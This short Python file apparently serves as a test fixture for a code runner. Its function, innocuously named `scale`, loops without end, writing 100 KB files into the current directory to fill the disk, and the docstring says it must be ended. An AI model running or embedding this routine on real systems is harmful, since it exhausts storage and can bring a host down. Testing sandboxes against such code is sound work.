"""Fills the disk with many files: must be ended."""

import itertools
import time


def scale(x, factor):
    for number in itertools.count():
        with open(str(number), "wb") as file:
            file.write(b"1" * 100_000)
        time.sleep(0.001)
